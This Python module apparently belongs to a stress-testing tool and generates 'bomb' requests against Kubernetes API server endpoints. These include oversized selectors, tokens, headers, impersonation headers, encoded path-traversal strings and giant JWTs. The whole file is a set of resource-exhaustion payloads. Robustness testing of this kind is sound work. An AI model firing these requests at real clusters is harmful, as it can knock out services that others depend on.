"""Requests without a body whose head is the bomb."""

from __future__ import annotations

from collections.abc import Iterator

from attack.bombs.building import CORE, Bomb
from attack.wire import Request


def queries() -> Iterator[Bomb]:
    """Selectors, tokens and versions in the query."""
    for name, text in {
        "labels in": "labelSelector=a+in+(" + ",".join(f"b{n}" for n in range(8_000)) + ")",
        "labels and": "labelSelector=" + ",".join(f"a{n}!=b" for n in range(7_000)),
        "labels not": "labelSelector=" + "!a," * 15_000 + "a",
        "labels spaces": "labelSelector=" + "+" * 60_000,
        "labels brackets": "labelSelector=" + "(" * 60_000,
        "fields": "fieldSelector=" + ",".join("metadata.name!=a" for _ in range(3_500)),
        "fields escapes": "fieldSelector=metadata.name%3D" + "%5C%5C" * 9_000,
        "continue": "continue=" + "a" * 60_000,
        "version": "resourceVersion=" + "9" * 5_000, "long version": "resourceVersion=" + "9" * 60_000,
        "limit": "limit=" + "9" * 5_000, "timeout": "timeoutSeconds=" + "9" * 5_000, "parameters": "&".join(f"a{n}=b" for n in range(8_000)),
        "ampersands": "&" * 60_000, "semicolons": ";" * 60_000, "percent": "a=" + "%" * 60_000, "watch version": "watch=1&resourceVersion=" + "9" * 5_000,
    }.items():  # fmt: skip
        for target in (
            f"{CORE}/configmaps",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles",
            f"{CORE}/pods",
        ):
            yield f"query {name} on {target.rpartition('/')[2]}", Request("GET", f"{target}?{text}")
    yield "delete grace", Request("DELETE", f"{CORE}/pods/zz?gracePeriodSeconds={'9' * 5_000}")
    yield "path", Request("GET", "/api/v1/" + "a/" * 30_000)
    yield "slashes", Request("GET", "/" * 60_000)
    yield "percent path", Request("GET", "/api/v1/" + "%2e%2e%2f" * 6_000)
    yield "long name", Request("GET", f"{CORE}/configmaps/" + "a" * 60_000)


def headers() -> Iterator[Bomb]:
    """Heads that are long, or many-headed."""
    target = f"{CORE}/configmaps"
    for name, head in {
        "accept": {"Accept": ",".join(f"application/json;as=T{n};v=v1;g=x;q=0.{n}" for n in range(1_200))},
        "accept semicolons": {"Accept": ";" * 60_000}, "accept commas": {"Accept": "," * 60_000},
        "content type": {"Content-Type": "application/json" + ";a=b" * 12_000},
        "many": {f"X-{n}": "a" for n in range(3_000)}, "encoding": {"Accept-Encoding": "gzip," * 10_000},
        "impersonate extra": {"Impersonate-User": "a", **{f"Impersonate-Extra-{n}": "b" for n in range(1_500)}},
        "impersonate groups": {"Impersonate-User": "a", "Impersonate-Group": "," * 50_000}, "cookie": {"Cookie": "a=b;" * 15_000},
        "if none match": {"If-None-Match": '"a",' * 14_000},
    }.items():  # fmt: skip
        yield f"header {name}", Request("GET", target, head)
    for name, token in {
        "long": "a" * 60_000,
        "dots": "." * 60_000,
        "jwt": "eyJhbGciOiJFUzI1NiJ9." + "A" * 50_000 + ".A",
        "nested jwt": "W" * 40_000 + ".e30.x",
    }.items():
        yield f"token {name}", Request("GET", target, token=token)
